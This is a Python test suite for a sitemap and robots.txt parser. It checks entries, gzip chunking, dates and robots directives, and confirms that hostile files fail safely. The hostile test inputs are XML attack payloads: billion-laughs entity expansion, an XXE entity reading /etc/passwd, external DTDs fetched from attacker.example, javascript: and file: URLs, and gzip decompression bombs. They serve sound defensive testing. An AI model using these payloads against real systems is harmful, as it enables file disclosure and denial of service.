"""Tests for stoker.warm.sitemap: sitemaps and robots.txt, including hostile input."""

from __future__ import annotations

import gzip
import tracemalloc
import zlib
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stoker.warm.sitemap import (
    MAX_ENTRIES,
    MAX_FILE_BYTES,
    MAX_LOC_CHARS,
    PIECE_BYTES,
    STEP_BYTES,
    DiscoveryError,
    Entry,
    Inflater,
    SitemapReader,
    parse_lastmod,
    parse_robots,
    parse_sitemap,
)

URL = "https://www.example.com/sitemap.xml"
NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
XHTML = 'xmlns:xhtml="http://www.w3.org/1999/xhtml"'


def urlset(body: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?><urlset {NS} {XHTML}>{body}</urlset>'.encode()


def parse(data: bytes) -> list[Entry]:
    return parse_sitemap([data], URL).entries


def test_urlset_with_lastmod_alternates_entities_and_relative_locs() -> None:
    data = urlset(
        "<url><loc> https://www.example.com/a?x=1&amp;y=2 </loc>"
        "<lastmod>2024-05-01T10:00:00+02:00</lastmod>"
        '<xhtml:link rel="alternate" hreflang="de" href="https://www.example.de/a"/>'
        '<xhtml:link rel="canonical" href="https://www.example.com/ignored"/></url>'
        "<url><loc>/relative</loc></url>"
        "<url><lastmod>2024</lastmod></url>"  # no loc: nothing to visit
        "<url><loc>https://www.example.com/c</loc><lastmod>not a date</lastmod></url>")
    assert parse(data) == [
        Entry("https://www.example.com/a?x=1&y=2", 1714550400.0, ("https://www.example.de/a",)),
        Entry("https://www.example.com/relative"),
        Entry("https://www.example.com/c"),
    ]


def test_sitemap_index() -> None:
    data = (f"<sitemapindex {NS}><sitemap><loc>https://www.example.com/s1.xml</loc>"
            "<lastmod>2024-01-01</lastmod></sitemap>"
            "<sitemap><loc>/s2.xml.gz</loc></sitemap></sitemapindex>").encode()
    sitemap = parse_sitemap([data], URL)
    assert sitemap.kind == "sitemapindex"
    assert [entry.loc for entry in sitemap.entries] == [
        "https://www.example.com/s1.xml", "https://www.example.com/s2.xml.gz"]


def test_no_namespace_and_cdata_are_accepted() -> None:
    data = b"<urlset><url><loc><![CDATA[https://www.example.com/a]]></loc></url></urlset>"
    assert parse(data) == [Entry("https://www.example.com/a")]


def test_gzip_in_any_chunking_and_several_members_give_the_same_entries() -> None:
    data = urlset("".join(f"<url><loc>https://www.example.com/p{i}</loc></url>"
                          for i in range(200)))
    expected = parse(data)
    packed = gzip.compress(data[:1000]) + gzip.compress(data[1000:])
    for chunking in (1, 7, 4096):
        chunks = [packed[i : i + chunking] for i in range(0, len(packed), chunking)]
        assert parse_sitemap(chunks, URL).entries == expected
    assert parse_sitemap([data[i : i + 3] for i in range(0, len(data), 3)], URL).entries \
        == expected


def test_reader_hands_out_entries_as_they_complete() -> None:
    reader = SitemapReader(URL)
    assert reader.feed(urlset("<url><loc>https://www.example.com/a</loc></url>")[:-9]) == [
        Entry("https://www.example.com/a")]
    assert reader.kind == "urlset"
    assert reader.feed(b"</urlset>") == []
    assert reader.close() == []


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<urlset><url><loc>https://www.example.com/&lol9;</loc></url></urlset>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<urlset><url><loc>https://www.example.com/&xxe;</loc></url></urlset>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<urlset/>"""
EXTERNAL_DTD = b'<!DOCTYPE urlset SYSTEM "http://attacker.example/evil.dtd"><urlset/>'


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (BILLION_LAUGHS, "DOCTYPE is refused"),
        (XXE, "DOCTYPE is refused"),
        (PARAMETER_ENTITY, "DOCTYPE is refused"),
        (EXTERNAL_DTD, "DOCTYPE is refused"),
        (urlset("<url><loc>https://www.example.com/&undefined;</loc></url>"),
         "undefined entity"),
        (urlset("<url><loc>ftp://www.example.com/a</loc></url>"), "is not an http(s) URL"),
        (urlset("<url><loc>javascript:alert(1)</loc></url>"), "is not an http(s) URL"),
        (urlset("<url><loc>file:///etc/passwd</loc></url>"), "is not an http(s) URL"),
        (urlset('<url><loc>https://www.example.com/a</loc><xhtml:link rel="alternate" '
                'href="data:text/html,x"/></url>'), "is not an http(s) URL"),
        (urlset(f"<url><loc>https://www.example.com/{'a' * MAX_LOC_CHARS}</loc></url>"),
         "longer than 2,048 characters"),
        (urlset(f"<url><loc>{' ' * 10_000}x</loc></url>"), "a <loc> of 10,001 characters"),
        (urlset("<url><loc>//[broken/x</loc></url>"), "is not a valid URL"),
        (b"<html><body>Not found</body></html>", "not a sitemap (root element <html>)"),
        (b"", "no element found"),
        (urlset("<url><loc>https://www.example.com/a</loc>"), "not well-formed"),
        (b"<urlset>" + b"<x>" * 40 + b"</x>" * 40 + b"</urlset>", "nested deeper than 32"),
        (gzip.compress(urlset(""))[:-6], "compressed data is truncated"),
        (b"\x1f\x8b" + b"garbage" * 10, "corrupt compressed data"),
    ],
)
def test_hostile_or_broken_files_fail_cleanly(data: bytes, reason: str) -> None:
    with pytest.raises(DiscoveryError) as caught:
        parse(data)
    assert reason in str(caught.value)
    assert caught.value.url == URL


def test_xxe_never_reads_the_file() -> None:
    with pytest.raises(DiscoveryError) as caught:
        parse(XXE)
    assert "root:" not in str(caught.value)


@pytest.mark.parametrize("packed", [False, True], ids=["plain", "gzip"])
def test_a_whole_sitemap_in_one_chunk_is_parsed_in_bounded_steps(packed: bool) -> None:
    data = urlset("".join(f"<url><loc>https://www.example.com/p{i}</loc></url>"
                          for i in range(5000)))
    reader = SitemapReader(URL)
    steps = list(reader.steps(gzip.compress(data) if packed else data))
    entries = [entry for step in steps for entry in step] + reader.close()
    assert entries == parse(data)
    assert len(steps) >= len(data) // STEP_BYTES
    per_step = 1 + STEP_BYTES // len(b"<url><loc>https://www.example.com/p0</loc></url>")
    assert max(len(step) for step in steps) <= per_step


def test_more_than_50000_entries_fail_at_the_one_over() -> None:
    def chunks() -> Iterator[bytes]:
        yield urlset("")[:-9]
        for block in range(1_000_000 // 1000):
            yield "".join(f"<url><loc>https://www.example.com/p{block}-{i}</loc></url>"
                          for i in range(1000)).encode()
        yield b"</urlset>"

    reader = SitemapReader(URL)
    read = 0
    with pytest.raises(DiscoveryError, match="more than 50,000 entries in one file"):
        for chunk in chunks():
            read += len(reader.feed(chunk))
    assert read == MAX_ENTRIES - MAX_ENTRIES % 1000


def zeros_gzip(size: int) -> Iterator[bytes]:
    """A gzip stream of ``size`` zero bytes, made in pieces."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1024 * 1024)
    for _ in range(size // len(block)):
        yield packer.compress(block)
    yield packer.flush()


def test_gzip_bomb_stops_at_the_cap_in_bounded_memory() -> None:
    bomb = b"".join(zeros_gzip(64 * 1024 * 1024))  # 64 MB of zeros, about 64 KB packed
    inflater = Inflater(URL)
    tracemalloc.start()
    out = 0
    try:
        with pytest.raises(DiscoveryError, match="more than 52,428,800 bytes uncompressed"):
            for piece in inflater.feed(bomb):
                assert len(piece) <= PIECE_BYTES
                out += len(piece)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert out <= MAX_FILE_BYTES
    assert peak < 10 * 1024 * 1024


def test_whitespace_bomb_in_a_valid_sitemap_stops_at_the_cap() -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = packer.compress(urlset("")[:-9])
    bomb += b"".join(packer.compress(b" " * 1024 * 1024) for _ in range(60))
    bomb += packer.flush()
    with pytest.raises(DiscoveryError, match="bytes uncompressed"):
        parse(bomb)


def test_plain_file_over_the_cap_fails() -> None:
    reader = SitemapReader(URL, max_bytes=1000)
    with pytest.raises(DiscoveryError, match="more than 1,000 bytes"):
        reader.feed(urlset(" " * 2000))


def test_inflater_handles_zlib_and_truncation() -> None:
    inflater = Inflater(URL, gzip=False)
    packed = zlib.compress(b"hello world" * 100)
    assert b"".join(inflater.feed(packed)) + b"".join(inflater.finish()) == b"hello world" * 100
    cut = Inflater(URL)
    list(cut.feed(gzip.compress(b"x" * 1000)[:-4]))
    with pytest.raises(DiscoveryError, match="truncated"):
        list(cut.finish())


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024", 1704067200.0),
        ("2024-02", 1706745600.0),
        ("2024-02-03", 1706918400.0),
        ("2024-02-03T04:05Z", 1706933100.0),
        ("2024-02-03T04:05:06+01:00", 1706929506.0),
        ("2024-02-03T04:05:06.5Z", 1706933106.5),
        (" 2024-02-03 ", 1706918400.0),
        ("2024-13", None),
        ("0000", None),
        ("yesterday", None),
        ("", None),
    ],
)
def test_parse_lastmod(text: str, expected: float | None) -> None:
    assert parse_lastmod(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("User-agent: *\nDisallow: /admin\nSitemap: https://e.com/s.xml\n", ["https://e.com/s.xml"]),
        ("\ufeffsitemap:https://e.com/a.xml # main\r\nSITEMAP : /b.xml\nSitemap: /b.xml",
         ["https://e.com/a.xml", "/b.xml"]),
        ("Sitemap:\nSitemap: # nothing\nDisallow: /", []),
        ("", []),
        ("# Sitemap: https://e.com/commented.xml", []),
    ],
)
def test_parse_robots(text: str, expected: list[str]) -> None:
    assert parse_robots(text) == expected


@given(st.text(max_size=2000))
def test_parse_robots_never_raises(text: str) -> None:
    assert all(isinstance(value, str) and value for value in parse_robots(text))


TOKENS = [
    "<urlset>", "</urlset>", "<sitemapindex>", "</sitemapindex>", "<url>", "</url>",
    "<sitemap>", "</sitemap>", "<loc>", "</loc>", "<lastmod>", "</lastmod>",
    "https://www.example.com/a", "/rel", "ftp://x", "javascript:x", "&amp;", "&lt;", "&bad;",
    '<xhtml:link xmlns:xhtml="http://www.w3.org/1999/xhtml" rel="alternate" href="/de"/>',
    "<!DOCTYPE x>", '<!ENTITY a "b">', "<![CDATA[x]]>", "<!-- c -->", "2024-01-01",
    "a" * 3000, " ", "\u00e9", "<?pi x?>", "<x>", "</x>",
]


def check(chunks: list[bytes]) -> None:
    try:
        sitemap = parse_sitemap(chunks, URL)
    except DiscoveryError:
        return
    assert len(sitemap.entries) <= MAX_ENTRIES
    for entry in sitemap.entries:
        assert len(entry.loc) <= MAX_LOC_CHARS + len(URL)
        assert entry.loc.lower().startswith(("http://", "https://"))


@settings(max_examples=300)
@given(st.lists(st.sampled_from(TOKENS), max_size=40), st.integers(1, 50), st.booleans())
def test_token_soup_only_ever_raises_discovery_error(tokens: list[str], size: int,
                                                     packed: bool) -> None:
    data = "".join(tokens).encode()
    if packed:
        data = gzip.compress(data)
    check([data[i : i + size] for i in range(0, len(data), size)])


@given(st.binary(max_size=500))
def test_random_bytes_only_ever_raise_discovery_error(data: bytes) -> None:
    check([data])
    check([b"\x1f\x8b" + data])


@given(st.binary(max_size=300), st.integers(0, 500))
def test_inflater_never_exceeds_its_cap(data: bytes, cap: int) -> None:
    inflater = Inflater(URL, cap)
    out = 0
    try:
        for piece in inflater.feed(gzip.compress(data)):
            out += len(piece)
        for piece in inflater.finish():
            out += len(piece)
    except DiscoveryError:
        assert len(data) > cap
    else:
        assert out == len(data) <= cap
